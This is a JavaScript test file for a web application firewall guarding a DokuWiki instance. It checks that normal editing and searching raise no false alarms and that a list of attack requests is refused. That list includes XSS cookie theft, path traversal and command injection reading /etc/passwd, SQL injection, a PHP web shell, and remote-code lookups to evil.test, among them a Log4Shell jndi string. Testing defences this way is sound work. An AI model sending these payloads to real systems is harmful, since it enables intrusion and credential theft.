// A wiki that none of us wrote (Debian's dokuwiki) behind the firewall at paranoia 1: written, searched and looked at in a
// real browser without one false alarm; attacked, it is never reached. The rule set's own exclusions for this wiki are on
// (tx.crs_exclusions_dokuwiki), as its operator would have them: people who signed in paste shell scripts and SQL into pages.
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import {createHash} from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {after, before, test} from 'node:test';
import {chromium} from 'playwright-core';
import {pageIn} from '../lib/browser.mjs';
import {bin, freePort, run, until} from '../lib/stack.mjs';

let folder, wiki, nginx, browser, origin;
before(async () => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'rempart-wiki-'));
  fs.chmodSync(folder, 0o755);
  const data = ['pages', 'attic', 'media', 'media_attic', 'media_meta', 'meta', 'cache', 'index', 'locks', 'tmp', 'log'];
  for (const name of data) fs.mkdirSync(`${folder}/data/${name}`, {recursive: true});
  fs.mkdirSync(`${folder}/conf`);
  for (const name of fs.readdirSync('/etc/dokuwiki')) {
    if (fs.existsSync(`/etc/dokuwiki/${name}`)) fs.copyFileSync(`/etc/dokuwiki/${name}`, `${folder}/conf/${name}`);
  }
  fs.writeFileSync(`${folder}/conf/local.php`, `<?php $conf['savedir'] = '${folder}/data'; $conf['useacl'] = 1; $conf['superuser'] = '@admin'; $conf['title'] = 'Wiki'; $conf['lang'] = 'en';`);
  fs.writeFileSync(`${folder}/conf/acl.auth.php`, '*\t@ALL\t1\n*\t@user\t8\n');
  fs.writeFileSync(`${folder}/conf/users.auth.php`, `zoe:${createHash('md5').update('wiki pass 1').digest('hex')}:Zoé:zoe@example.test:user\n`);
  fs.writeFileSync(`${folder}/conf.php`, `<?php define('DOKU_CONF', '${folder}/conf/');`);
  const wikiPort = await freePort(), port = await freePort();
  wiki = spawn('php', ['-d', `auto_prepend_file=${folder}/conf.php`, '-d', 'display_errors=0', '-S', `127.0.0.1:${wikiPort}`, '-t', '/usr/share/dokuwiki'],
    {stdio: 'ignore', detached: true, env: {...process.env, PHP_CLI_SERVER_WORKERS: '4'}}); // a group: its workers outlive it otherwise
  fs.writeFileSync(`${folder}/rules.conf`, `SecRuleEngine On\nSecRequestBodyAccess On\nSecRequestBodyLimit 13107200\nSecRequestBodyNoFilesLimit 131072
SecResponseBodyAccess On\nSecResponseBodyMimeType text/plain text/html text/xml
SecAction "id:100,phase:1,pass,nolog,setvar:tx.crs_exclusions_dokuwiki=1"
Include /etc/modsecurity/crs/crs-setup.conf\nInclude /usr/share/modsecurity-crs/rules/*.conf\n`);
  const made = await run(path.join(bin, 'rempart'), ['waf', 'compile', '--rules', `${folder}/rules.conf`, '-o', `${folder}/rules.waf`]);
  assert.equal(made.code, 0, made.stderr);
  fs.writeFileSync(`${folder}/nginx.conf`, `load_module ${path.resolve(bin)}/ngx_http_rempart_module.so;
pid ${folder}/pid; error_log ${folder}/error.log notice; worker_processes 1; events {}
http { access_log off; ${['client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi'].map(kind => `${kind}_temp_path ${folder}/tmp;`).join(' ')}
 rempart_waf ${folder}/rules.waf on;
 server { listen 127.0.0.1:${port}; location / { proxy_set_header Host $http_host; proxy_pass http://127.0.0.1:${wikiPort}; } } }`);
  nginx = spawn('/usr/sbin/nginx', ['-c', `${folder}/nginx.conf`, '-g', 'daemon off;'], {stdio: 'ignore'});
  origin = `http://localhost:${port}`;
  await until('the wiki', async () => (await fetch(`${origin}/doku.php`)).ok);
  browser = await chromium.launch({executablePath: '/usr/bin/chromium', headless: true});
});
after(async () => {
  await browser?.close();
  for (const child of [nginx, wiki]) {
    if (child?.exitCode === null) process.kill(child === wiki ? -child.pid : child.pid, 'SIGTERM');
    await new Promise(resolve => (child && child.exitCode === null ? child.once('exit', resolve) : resolve()));
  }
  fs.rmSync(folder, {recursive: true, force: true});
});
const refusals = () => fs.readFileSync(`${folder}/error.log`, 'utf8').split('\n').filter(line => /rempart_waf: (would be )?refused/.test(line)).join('\n');

/*= S58, S64 type=test */
test('pages are written, corrected, searched and compared without a false alarm', async () => {
  const page = await pageIn(browser);
  await page.goto(`${origin}/doku.php?id=start&do=login`);
  await page.fill('input[name=u]', 'zoe');
  await page.fill('input[name=p]', 'wiki pass 1');
  await page.click('#dw__login button[type=submit]');
  await page.waitForSelector('text=Logged in as');
  const texts = {
    meeting: '====== Réunion du mardi ======\n\nPrésents : Zoé, Léa & Tom. Budget : 1 200 € (−5 %).\n\n  * Choisir la date ; voir [[budget|le budget]]\n  * "Qui ?" — à décider\n\n^ Poste ^ Prix ^\n| Chaises | 3 × 49,90 € |\n',
    guide: '====== How we order ======\n\nSelect the items from the list, then update the order where the price is lower. It\'s 5 > 3 && 2 < 4.\n\n<code bash>\nls -l *.txt | sort\n</code>\n',
  };
  for (const [name, text] of Object.entries(texts)) {
    await page.goto(`${origin}/doku.php?id=${name}&do=edit`);
    await page.fill('textarea[name=wikitext]', text);
    await page.fill('input[name=summary]', 'first version, it\'s new');
    await page.click('button[name="do[save]"]');
    await page.waitForURL(address => !address.search.includes('do=edit'));
    assert.match(await page.textContent('body'), /Réunion du mardi|How we order/, refusals());
  }
  await page.goto(`${origin}/doku.php?id=meeting&do=edit`);
  await page.fill('textarea[name=wikitext]', `${texts.meeting}\nSuite le jeudi.\n`);
  await page.click('button[name="do[preview]"]');
  await page.waitForSelector('#preview, .preview');
  await page.click('button[name="do[save]"]');
  await page.waitForSelector('text=Suite le jeudi');
  await page.goto(`${origin}/doku.php?do=search&q=${encodeURIComponent('budget "le jeudi"')}`);
  assert.match(await page.textContent('body'), /meeting|Réunion/);
  await page.goto(`${origin}/doku.php?id=meeting&do=revisions`);
  await page.goto(`${origin}/doku.php?id=meeting&do=media`);
  assert.equal(refusals(), '');
  await page.context().close();
});

/*= S58, S64 type=test */
test('the attacks that wikis see never reach it', async () => {
  const attacks = [
    '/doku.php?id=start&q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    '/doku.php?id=../../../../../../etc/passwd',
    '/lib/exe/fetch.php?media=http://evil.test/shell.txt%00.php',
    '/doku.php?id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-',
    '/doku.php?id=start;cat%20/etc/passwd',
    '/doku.php?x=%3C?php%20system($_GET%5B1%5D);',
    '/doku.php?x=$%7Bjndi:ldap://evil.test/a%7D',
    '/.git/config', '/conf/local.php.bak',
  ];
  for (const attack of attacks) {
    const answer = await fetch(origin + attack, {headers: {'user-agent': 'Mozilla/5.0', accept: 'text/html', 'accept-language': 'fr'}});
    assert.equal(answer.status, 403, attack);
    assert.match(await answer.text(), /<html lang="fr">[\s\S]*Numéro d’incident/);
  }
  const scanner = await fetch(`${origin}/doku.php`, {headers: {'user-agent': 'Nikto/2.1.6'}});
  assert.equal(scanner.status, 403);
});
